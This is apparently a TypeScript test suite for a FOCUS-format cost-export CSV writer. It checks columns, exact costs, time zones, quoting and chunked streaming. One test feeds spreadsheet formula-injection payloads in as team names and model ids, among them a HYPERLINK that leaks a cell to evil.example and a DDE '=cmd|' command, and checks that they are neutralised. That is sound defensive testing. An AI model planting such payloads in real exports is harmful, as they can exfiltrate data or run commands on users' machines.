import { describe, expect, it } from 'vitest';
import { buildFocusCsv, csvField, FOCUS_COLUMNS, focusCsvByteChunks, FocusCsvExporter } from '../../shared/adapters/reports/focus-csv.js';
import { money, sumMoney } from '../../shared/domain/money.js';
import { monthWindow } from '../../shared/domain/periods.js';
import { buildMonthReport } from '../../shared/domain/report.js';
import { buildMonthlyLines, compareLines, compareTeamIds } from '../../shared/domain/rollup.js';
import type { CostExportMonth } from '../../shared/ports/cost-export.js';
import { testDirectory, testPriceBook, tokens, usageRow } from '../support/domain-fixtures.js';
import { parseCsv } from '../support/csv.js';

const directory = testDirectory(
  [
    { userId: 'u1', teamId: 'payments', displayName: 'Ann "the, Payer"' },
    { userId: 'u2', teamId: 'platform' },
  ],
  [
    { id: 'payments', name: 'Payments, Cards & "Wallets"', leads: [] },
    { id: 'platform', name: 'Platform', leads: [] },
  ],
);

function exportMonth(timeZone = 'Europe/Berlin'): { month: CostExportMonth; exactTotal: string } {
  const priceBook = testPriceBook();
  const rows = [
    usageRow({ day: '2026-10-01', userId: 'u1', tokens: tokens({ input: 1_234_567, output: 89_101, cacheRead: 3_000_001 }) }),
    usageRow({ day: '2026-10-15', userId: 'u1', tokens: tokens({ input: 7, cacheWrite5m: 11, cacheWrite1h: 13 }) }),
    usageRow({ day: '2026-10-16', userId: 'u1', tokens: tokens({ input: 999_999 }) }),
    usageRow({ day: '2026-10-25', userId: 'u2', model: 'claude-haiku-4-5-20251001', tokens: tokens({ output: 333_333 }) }),
    usageRow({ day: '2026-10-26', userId: 'u2', model: 'mystery-model', tokens: tokens({ input: 4_200, output: 42 }) }),
    usageRow({ day: '2026-10-27', userId: 'stranger', tokens: tokens({ input: 10 }) }),
  ];
  const lines = buildMonthlyLines('2026-10', rows, directory, priceBook);
  const window = monthWindow('2026-10', timeZone);
  const report = buildMonthReport(lines, {
    month: '2026-10',
    timeZone,
    window,
    generatedAt: new Date('2026-11-03T00:00:00Z'),
    revision: 1,
    priceBook,
    teams: directory.teams,
    sourceDescription: 'test',
    rejects: { count: 0, samples: [], byReason: {} },
    reportedTotalTokens: null,
  });
  return {
    month: { month: '2026-10', timeZone, window, currency: 'USD', lines, priceBook, teamNames: new Map([...directory.teams.values()].map((t) => [t.id, t.name])) },
    exactTotal: report.exactTotal,
  };
}

function read(month: CostExportMonth) {
  const [header, ...rows] = parseCsv(new FocusCsvExporter().focusCsv(month).toString('utf8'));
  const records = rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]!])));
  return { header: header!, records };
}

describe('the FOCUS cost export', () => {
  it('has the FOCUS columns, one row per line, day and token kind with tokens', () => {
    const { header, records } = read(exportMonth().month);
    expect(header).toEqual([...FOCUS_COLUMNS]);
    for (const column of ['BilledCost', 'EffectiveCost', 'ListCost', 'ContractedCost', 'BillingPeriodStart', 'ChargePeriodEnd', 'ConsumedQuantity', 'PricingUnit', 'SubAccountId', 'Tags', 'SkuPriceId']) {
      expect(header).toContain(column);
    }
    // 3 + 3 + 1 + 1 + 2 + 1 token kinds with tokens.
    expect(records).toHaveLength(11);
    expect(records.every((record) => record['ChargeCategory'] === 'Usage' && record['ConsumedUnit'] === 'Tokens' && record['PricingUnit'] === '1M Tokens')).toBe(true);
    expect(records.every((record) => record['ServiceCategory'] === 'AI and Machine Learning' && record['ProviderName'] === 'Anthropic')).toBe(true);
  });

  it('adds up, in BilledCost, to the exact month total, with every cost an exact decimal', () => {
    const { month, exactTotal } = exportMonth();
    const { records } = read(month);
    const billed = sumMoney(records.map((record) => money(record['BilledCost']!)));
    expect(billed.toFixed()).toBe(exactTotal);
    expect(records.map((record) => record['EffectiveCost'])).toEqual(records.map((record) => record['BilledCost']));
    // 1,234,567 input tokens at $3 per million: exact, not rounded to the cent.
    const input = records.find((record) => record['ConsumedQuantity'] === '1234567')!;
    expect(input['BilledCost']).toBe('3.703701');
    expect(input['PricingQuantity']).toBe('1.234567');
    expect(input['ListUnitPrice']).toBe('3');
    expect(money(input['PricingQuantity']!).times(money(input['ListUnitPrice']!)).toFixed()).toBe(input['ListCost']);
    for (const record of records.filter((row) => row['ListUnitPrice'] !== '')) {
      expect(record['ListCost']).toBe(money(record['PricingQuantity']!).times(money(record['ListUnitPrice']!)).toFixed());
    }
  });

  it('writes instants in UTC: the month and each day cut in the reporting zone', () => {
    const { records } = read(exportMonth('Europe/Berlin').month);
    const first = records.find((record) => record['ChargeDescription']!.includes('2026-10-01'))!;
    expect(first['BillingPeriodStart']).toBe('2026-09-30T22:00:00Z');
    expect(first['BillingPeriodEnd']).toBe('2026-10-31T23:00:00Z');
    expect(first['ChargePeriodStart']).toBe('2026-09-30T22:00:00Z');
    expect(first['ChargePeriodEnd']).toBe('2026-10-01T22:00:00Z');
    // The day the clocks go back is 25 hours long.
    const dst = records.find((record) => record['ChargePeriodStart'] === '2026-10-24T22:00:00Z')!;
    expect(dst['ChargePeriodEnd']).toBe('2026-10-25T23:00:00Z');
  });

  it('keeps unpriced usage with zero cost and says so', () => {
    const { records } = read(exportMonth().month);
    const unpriced = records.filter((record) => record['ResourceId'] === 'mystery-model');
    expect(unpriced).toHaveLength(2);
    for (const record of unpriced) {
      expect(record['BilledCost']).toBe('0');
      expect(record['ListUnitPrice']).toBe('');
      expect(record['SkuPriceId']).toBe('');
      expect(record['ChargeDescription']).toMatch(/^Unpriced: .*not charged/);
    }
  });

  it('names prices, models, teams and tags, quoting what needs quoting', () => {
    const { records } = read(exportMonth().month);
    const haiku = records.find((record) => record['ResourceId'] === 'claude-haiku-4-5-20251001')!;
    expect(haiku['SkuId']).toBe('claude-haiku-4-5');
    expect(haiku['SkuPriceId']).toBe('claude-haiku-4-5@2025-10-15');
    expect(haiku['x_TokenKind']).toBe('output');
    expect(JSON.parse(haiku['Tags']!)).toEqual({ team: 'platform', user: 'u2', tier: 'Claude.Standard', allocation: 'team' });
    const payments = records.find((record) => record['SubAccountId'] === 'payments')!;
    expect(payments['SubAccountName']).toBe('Payments, Cards & "Wallets"');
    const stranger = records.find((record) => JSON.parse(record['Tags']!).user === 'stranger')!;
    expect(stranger['SubAccountId']).toBe('_unallocated');
    expect(JSON.parse(stranger['Tags']!).allocation).toBe('unknown-user');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('plain')).toBe('plain');
  });

  it('streams the same bytes as it builds in one piece, in chunks of whole records', () => {
    const { month } = exportMonth();
    const exporter = new FocusCsvExporter();
    const chunks = [...exporter.focusCsvChunks(month)];
    expect(Buffer.concat(chunks).equals(exporter.focusCsv(month))).toBe(true);
    expect(chunks.every((chunk) => chunk.subarray(-2).toString('latin1') === '\r\n')).toBe(true);
  });

  it('writes the same file as the header then each team\'s rows, team by team in line order', () => {
    const { month } = exportMonth();
    const exporter = new FocusCsvExporter();
    const sorted = [...month.lines].sort(compareLines);
    const teamIds = [...new Set(sorted.map((line) => line.teamId))].sort(compareTeamIds);
    // Three teams here, the unallocated one among them, so the order of the parts is tested, not given.
    expect(teamIds).toHaveLength(3);
    const parts = teamIds.map((teamId) => Buffer.concat([...exporter.focusCsvRowChunks({ ...month, lines: sorted.filter((line) => line.teamId === teamId) })]));
    expect(parts.every((part) => part.length > 0 && !part.toString('utf8').startsWith(FOCUS_COLUMNS[0]!))).toBe(true);
    const joined = Buffer.concat([exporter.focusCsvHeader(), ...parts]);
    expect(joined.equals(exporter.focusCsv({ ...month, lines: sorted }))).toBe(true);
    expect(Buffer.concat([...exporter.focusCsvRowChunks({ ...month, lines: [] })])).toHaveLength(0);
  });

  it('cuts the chunks between whole records, whatever their characters and whatever the chunk size', () => {
    const { month: plain } = exportMonth();
    // Team names of two, three and four UTF-8 bytes a character, in every row's fixed pieces.
    const month = { ...plain, teamNames: new Map([['payments', 'Zahlungsverkehr Ünïcode €'], ['platform', 'Plattform 🚀']]) };
    const whole = new FocusCsvExporter().focusCsv(month);
    expect(whole.toString('utf8')).toContain('Plattform 🚀');
    const records = whole.toString('utf8').split('\r\n').length - 1;
    for (const size of [1, 64, 700, 4096, 256 * 1024]) {
      const chunks = [...focusCsvByteChunks(month, {}, size)];
      expect(Buffer.concat(chunks).equals(whole)).toBe(true);
      // Every chunk decodes on its own into whole records: no character or record is split between two.
      for (const chunk of chunks) expect(whole.toString('utf8')).toContain(chunk.toString('utf8'));
      expect(chunks.every((chunk) => chunk.toString('utf8').endsWith('\r\n'))).toBe(true);
      // A chunk ends at the first record that reaches its size: never a record more.
      expect(chunks.slice(0, -1).every((chunk) => chunk.length >= size)).toBe(true);
    }
    expect([...focusCsvByteChunks(month, {}, 1)]).toHaveLength(records);
    expect([...focusCsvByteChunks(month)]).toHaveLength(1);
  });

  it('guards hostile team names and model ids, keeps figures as numbers, and tags the cost center', () => {
    const hostileTeams = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|x', '+1', '-1', '\tTabbed', '\rReturned'];
    const hostileDirectory = testDirectory(
      hostileTeams.map((_, index) => ({ userId: `u${index}`, teamId: `team-${index}` })),
      hostileTeams.map((name, index) => ({ id: `team-${index}`, name, leads: [], costCenter: `CC-${index}` })),
    );
    const models = ['=cmd|"/c calc"!A1', '@SUM(A1)', '+model', '-model', '\tmodel', '\rmodel'];
    const rows = hostileTeams.map((_, index) => usageRow({ day: '2026-10-02', userId: `u${index}`, model: models[index]!, tokens: tokens({ input: 1000 }) }));
    const priceBook = testPriceBook();
    const lines = buildMonthlyLines('2026-10', rows, hostileDirectory, priceBook);
    const month: CostExportMonth = {
      month: '2026-10',
      timeZone: 'UTC',
      window: monthWindow('2026-10', 'UTC'),
      currency: 'USD',
      lines,
      priceBook,
      teamNames: new Map([...hostileDirectory.teams.values()].map((team) => [team.id, team.name])),
      teamCostCenters: new Map([...hostileDirectory.teams.values()].map((team) => [team.id, team.costCenter!])),
    };
    const text = buildFocusCsv(month);
    const [, ...records] = parseCsv(text);
    expect(records).toHaveLength(hostileTeams.length);
    for (const cells of records) {
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const { records: named } = read(month);
    expect(named.map((record) => record['SubAccountName']).sort()).toEqual(hostileTeams.map((name) => `'${name}`).sort());
    expect(named.map((record) => record['ResourceId']).sort()).toEqual(models.map((model) => `'${model}`).sort());
    for (const record of named) {
      const tags = JSON.parse(record['Tags']!);
      expect(tags.costCenter).toBe(`CC-${record['SubAccountId']!.slice('team-'.length)}`);
    }
  });

  it('gives the same bytes for the same month', () => {
    const { month } = exportMonth();
    expect(buildFocusCsv(month)).toBe(buildFocusCsv(month));
  });
});
